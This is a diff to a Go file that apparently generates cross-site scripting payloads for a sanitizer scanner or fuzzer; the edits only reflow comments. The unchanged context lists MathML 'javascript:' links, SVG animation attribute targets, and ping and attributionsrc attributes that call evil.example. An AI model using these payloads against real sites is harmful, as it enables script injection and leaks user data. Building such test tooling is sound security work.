@@ -2,8 +2,8 @@ package payloads
 
 import "strings"
 
-// animations change an attribute later, or create one that no parser saw: the address of a
-// link, a handler, a copy of a hidden element.
+// animations change an attribute later, or create one that no parser saw: the
+// address of a link, a handler, a copy of a hidden element.
 func animations(w *writer) {
 	targets := []string{"href", "xlink:href", "onclick", "onload", "style", "src", "fill", "to", "values"}
 	for _, attribute := range targets {
@@ -32,8 +32,8 @@ func animations(w *writer) {
 	}
 }
 
-// formulas attack through MathML: its links, its annotations, and its integration points for
-// HTML.
+// formulas attack through MathML: its links, its annotations, and its
+// integration points for HTML.
 func formulas(w *writer) {
 	for _, s := range []string{
 		`<math><mi href=javascript:PROBE>x</mi></math>`, `<math xlink:href=javascript:PROBE><mi>x</mi></math>`, `<math><mrow href="javascript:PROBE"><mi>x</mi></mrow></math>`, `<math><maction actiontype=statusline#x xlink:href=javascript:PROBE>x</maction></math>`,
@@ -55,8 +55,8 @@ func formulas(w *writer) {
 	}
 }
 
-// features writes attributes and elements, including new ones, that make a browser send
-// requests, move the focus, open a layer or name a window.
+// features writes attributes and elements, including new ones, that make a
+// browser send requests, move the focus, open a layer or name a window.
 func features(w *writer) {
 	for _, attribute := range []string{
 		"attributionsrc=//evil.example/x", "attributionsrc", "ping=//evil.example/x", "browsingtopics", "sharedstoragewritable", "fetchpriority=high", "crossorigin=use-credentials", "referrerpolicy=unsafe-url", "elementtiming=x", "importance=high",
